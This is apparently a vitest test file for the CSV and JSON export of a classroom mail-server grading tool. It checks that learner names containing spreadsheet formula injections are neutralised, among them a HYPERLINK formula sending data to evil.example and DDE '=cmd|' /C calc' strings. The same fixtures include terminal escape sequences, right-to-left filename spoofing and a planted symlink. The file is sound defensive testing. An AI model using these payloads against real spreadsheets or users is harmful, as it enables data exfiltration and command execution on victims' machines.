// class.csv and class.json: safe to open in a spreadsheet, readable by a script, written whole or not at all.
import { execFile, execFileSync } from 'node:child_process'
import { closeSync, lstatSync, mkdirSync, mkdtempSync, openSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { Status } from '../checker/types.ts'
import { writeClassCsv, writeClassJson, writeFileAtomic } from './export.ts'
import type { SubmissionGrade } from './grade.ts'
import { classCsv, classJson, type ClassMeta } from './report.ts'
import type { Criterion } from './score.ts'
import { crit as critOf, grade } from './test-support/grades.ts'

const crit = (key: string, status: Status, evidence = `S: 250 ${key}`): Criterion => critOf(key, status, { evidence: { lines: [evidence] } })

const ROOT = path.resolve(import.meta.dirname, '..')
const META: ClassMeta = { exercise: 'postfix-hardening', batch: 'tp1-b7', parallel: 2, startedAt: '2026-12-03T08:00:00.000Z', durationMs: 60_000 }

/** RFC 4180 as a script reads it (Python's csv, pandas): quoted fields, "" for a quote, CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++
      else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') row.push(cell), (cell = '')
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++
    else cell += ch
  }
  if (cell !== '' || row.length) row.push(cell), rows.push(row)
  return rows
}

// Learner names (folder or archive names in the class folder) written to be run by a spreadsheet.
const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"notes")',
  '+1+cmd|\' /C calc\'!A0',
  '-2',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  'ana;=1+1',
  'ben\t-3',
  'cho ; @SUM(A1)',
  'dan\x1b[2J\x1b]0;pwned\x07\u202Egnp.exe',
  '＝1+1',
]
// A rejection whose message quotes a file name from the archive, and an evidence line from a server.
const REJECTED = grade('eve', [], {
  verdict: 'rejected',
  rejectCode: 'path-escapes',
  reason: { fr: 'le chemin sort de la copie (../x;=cmd|calc)', en: 'path escapes the submission (../x;=cmd|calc)' },
  score: 0,
  maxScore: 0,
  percent: null,
})

/** A cell a spreadsheet would start evaluating: at its start, or after ; or tab (a French spreadsheet splits there). */
const FORMULA = /(^|[;\t])\s*[=+\-@＝＋－＠]/

describe('class.csv', () => {
  const grades = [
    ...HOSTILE_NAMES.map((n) => grade(n, [crit('smtp.vrfy.disabled', 'pass', `S: 252 =cmd|' /C calc'!A0`), crit('tls.implicit', 'fail')])),
    REJECTED,
  ]
  const csv = classCsv(grades, 'en', META)
  const rows = parseCsv(csv)

  it('quotes every cell, so a file opened with ; as separator never starts a field with a formula', () => {
    for (const line of csv.split('\r\n').filter(Boolean)) {
      expect(line.startsWith('"'), line).toBe(true)
      // Split the way a French spreadsheet would: every field but the first starts after a ;
      for (const field of line.split(';').slice(1)) expect(field, line).not.toMatch(/^\s*[=+\-@＝＋－＠]/)
      // And the way a comma spreadsheet does: quoted fields (inner quotes doubled) separated by commas.
      expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/)
    }
  })

  it('neutralises every learner-supplied cell that a spreadsheet would evaluate, at its start or after ; or tab', () => {
    const header = rows[0]!
    const learner = header.indexOf('learner')
    const note = header.indexOf('note')
    for (const r of rows.slice(1)) {
      expect(r[learner], JSON.stringify(r[learner])).not.toMatch(FORMULA)
      expect(r[note], JSON.stringify(r[note])).not.toMatch(FORMULA)
    }
    expect(rows[1]![learner]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"notes")`)
    expect(rows[3]![learner]).toBe(`'-2`)
    expect(rows[8]![learner]).toBe(`ana;'=1+1`)
    expect(rows.at(-1)![note]).toBe(`path escapes the submission (../x;'=cmd|calc)`)
  })

  it('strips escape sequences and control characters from learner text', () => {
    for (const r of rows) for (const cell of r) expect(cell, JSON.stringify(cell)).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/)
    expect(rows[11]![0]).toBe('dan\\u202egnp.exe')
  })

  it('leaves the numbers the grader computed numeric, and names the batch and its time on every row', () => {
    const header = rows[0]!
    expect(header.slice(0, 9)).toEqual(['learner', 'verdict', 'score', 'max_score', 'percent', 'note', 'exercise', 'batch', 'batch_started_at'])
    expect(header.slice(9)).toEqual(['smtp.vrfy.disabled', 'tls.implicit'])
    const ana = rows[8]!
    expect(ana.slice(1, 5)).toEqual(['graded', '1', '2', '50'])
    expect(ana.slice(6, 9)).toEqual(['postfix-hardening', 'tp1-b7', '2026-12-03T08:00:00.000Z'])
    for (const r of rows.slice(1)) expect(r.length).toBe(header.length)
  })
})

describe('writing the exports', () => {
  let dir: string
  beforeEach(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'stl-export-'))
  })
  afterEach(() => rmSync(dir, { recursive: true, force: true }))

  const hostile = 'S: 250 \x1b]0;pwned\x07\u202Eok\x9b2J'

  it('class.json names the batch, its start and the export time, and prints no raw control character', () => {
    const grades = [grade('ana\u202E', [crit('smtp.vrfy.disabled', 'pass', hostile)])]
    const file = path.join(dir, 'class.json')
    writeClassJson(file, classJson(grades, META, 'en'), new Date('2026-12-03T08:01:00.000Z'))
    const text = readFileSync(file, 'utf8')
    expect(text).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/)
    const j = JSON.parse(text)
    expect(j).toMatchObject({ exercise: 'postfix-hardening', batch: 'tp1-b7', startedAt: META.startedAt, exportedAt: '2026-12-03T08:01:00.000Z' })
    expect(Object.keys(j).at(-1)).toBe('learners')
    // The evidence itself is intact for a script.
    expect(j.learners[0].criteria[0].evidence.lines[0]).toBe(hostile)
    expect(j.learners[0].learner).toBe('ana\u202E')
  })

  it('class.csv is written whole with the batch columns, and no temporary file is left', () => {
    const file = path.join(dir, 'class.csv')
    writeClassCsv(file, [grade('ana', [crit('a', 'pass')])], META, 'en')
    expect(parseCsv(readFileSync(file, 'utf8'))[1]!.slice(6, 9)).toEqual(['postfix-hardening', 'tp1-b7', META.startedAt])
    expect(readdirSync(dir)).toEqual(['class.csv'])
  })

  it('replaces the file by rename: a reader of the old file keeps reading it whole, the new one is a new inode', () => {
    const file = path.join(dir, 'class.csv')
    writeFileAtomic(file, 'old,'.repeat(10_000))
    const before = statSync(file).ino
    const reader = openSync(file, 'r')
    try {
      writeFileAtomic(file, 'new\r\n')
      expect(readFileSync(reader, 'utf8')).toBe('old,'.repeat(10_000))
    } finally {
      closeSync(reader)
    }
    expect(statSync(file).ino).not.toBe(before)
    expect(readFileSync(file, 'utf8')).toBe('new\r\n')
  })

  it('a symlink planted at the target is replaced, never written through', () => {
    const victim = path.join(dir, 'victim.txt')
    writeFileSync(victim, 'keep me')
    const file = path.join(dir, 'class.csv')
    symlinkSync(victim, file)
    writeFileAtomic(file, 'grades')
    expect(readFileSync(victim, 'utf8')).toBe('keep me')
    expect(lstatSync(file).isSymbolicLink()).toBe(false)
    expect(readFileSync(file, 'utf8')).toBe('grades')
  })

  it('a failed write leaves the old file and no temporary behind', () => {
    const file = path.join(dir, 'class.csv')
    mkdirSync(file)
    writeFileSync(path.join(file, 'inside'), 'x')
    expect(() => writeFileAtomic(file, 'grades')).toThrow()
    expect(readdirSync(dir)).toEqual(['class.csv'])
    expect(readdirSync(file)).toEqual(['inside'])
  })

  // The order of system calls is the guarantee: data fsync'd before the rename, the directory fsync'd after it.
  // strace is installed by .ci/run; without it this test fails rather than passing by being skipped.
  it('fsyncs the file before the rename and the directory after it (strace)', () => {
    const file = path.join(dir, 'class.csv')
    const log = path.join(dir, 'strace.log')
    const script = `import(${JSON.stringify(path.join(ROOT, 'grading/export.ts'))}).then((m) => m.writeFileAtomic(${JSON.stringify(file)}, 'x'))`
    execFileSync('strace', ['-f', '-qq', '-e', 'trace=openat,fsync,fdatasync,rename,renameat,renameat2', '-o', log, process.execPath, '--import', 'tsx', '-e', script], { cwd: ROOT, stdio: 'pipe' })
    const calls = readFileSync(log, 'utf8')
      .split('\n')
      .filter((l) => l.includes(dir) || /fsync|rename/.test(l))
    const tmpOpen = calls.findIndex((l) => /openat\(.*\.class\.csv\.\d+\.[0-9a-f]+\.tmp".*O_EXCL.*= (\d+)$/.test(l))
    expect(tmpOpen, calls.join('\n')).toBeGreaterThanOrEqual(0)
    const tmpFd = /= (\d+)$/.exec(calls[tmpOpen]!)![1]
    const fileSync = calls.findIndex((l, i) => i > tmpOpen && new RegExp(`fsync\\(${tmpFd}\\)`).test(l))
    const rename = calls.findIndex((l) => /rename/.test(l) && l.includes(`${file}"`))
    const dirOpen = calls.findIndex((l, i) => i > rename && l.includes(`"${dir}"`) && /O_RDONLY/.test(l))
    const dirFd = dirOpen >= 0 ? /= (\d+)$/.exec(calls[dirOpen]!)?.[1] : undefined
    const dirSync = calls.findIndex((l, i) => i > dirOpen && new RegExp(`fsync\\(${dirFd}\\)`).test(l))
    expect([fileSync > tmpOpen, rename > fileSync, dirOpen > rename, dirSync > dirOpen], calls.join('\n')).toEqual([true, true, true, true])
  })
})

describe('grade --class as typed, on a class whose folder names attack the reader (every one refused at intake, no sandbox)', () => {
  let dir: string
  beforeEach(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'stl-export-cli-'))
  })
  afterEach(() => rmSync(dir, { recursive: true, force: true }))

  it('writes a neutralised class.csv and a safe class.json naming the batch, and prints no control character', async () => {
    const names = ['=HYPERLINK("evil.example?"&A1,"x")', 'ana;=1+1', '-2', 'mallory\u202Etxt.exe', 'zoe\u009b2J']
    for (const n of names) mkdirSync(path.join(dir, 'class', n), { recursive: true })
    writeFileSync(path.join(dir, 'class', 'ana;=1+1', 'main.cf'), 'smtpd_banner = $myhostname ESMTP\n')
    const out = path.join(dir, 'out')
    const r = await new Promise<{ code: number; stdout: string; stderr: string }>((resolve) =>
      execFile(
        process.execPath,
        ['bin/smtp-tls-lab.mjs', 'grade', '--exercise', 'postfix-hardening', '--class', path.join(dir, 'class'), '--out', out, '--no-store', '--lang', 'en', '--batch', 'h5-export'],
        { cwd: ROOT, timeout: 60_000 },
        (err, stdout, stderr) => resolve({ code: err ? ((err as { code?: number }).code ?? 1) : 0, stdout, stderr }),
      ),
    )
    expect(r.code, r.stderr).toBe(0)
    const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/
    expect(r.stdout).not.toMatch(RAW)
    expect(r.stderr).not.toMatch(RAW)
    expect(r.stdout).toContain('mallory\\u202etxt.exe: rejected')
    const rows = parseCsv(readFileSync(path.join(out, 'class.csv'), 'utf8'))
    expect(rows[0]!.slice(6, 9)).toEqual(['exercise', 'batch', 'batch_started_at'])
    const learners = rows.slice(1).map((row) => row[0])
    expect(learners).toEqual(expect.arrayContaining([`'=HYPERLINK("evil.example?"&A1,"x")`, "ana;'=1+1", "'-2", 'mallory\\u202etxt.exe']))
    for (const row of rows.slice(1)) {
      expect(row[0]).not.toMatch(FORMULA)
      expect(row.slice(7, 9)).toEqual(['h5-export', expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/)])
    }
    const jsonText = readFileSync(path.join(out, 'class.json'), 'utf8')
    expect(jsonText.replace(/\n/g, '')).not.toMatch(RAW)
    const j = JSON.parse(jsonText)
    expect(j).toMatchObject({ batch: 'h5-export', exercise: 'postfix-hardening', counts: { rejected: 5 } })
    expect(Date.parse(j.exportedAt)).toBeGreaterThanOrEqual(Date.parse(j.startedAt))
    // The JSON keeps the name exactly as the folder spelt it.
    expect(j.learners.map((l: { learner: string }) => l.learner)).toContain('mallory\u202Etxt.exe')
    expect(readdirSync(out).sort()).toEqual(['class.csv', 'class.json'])
  })
})
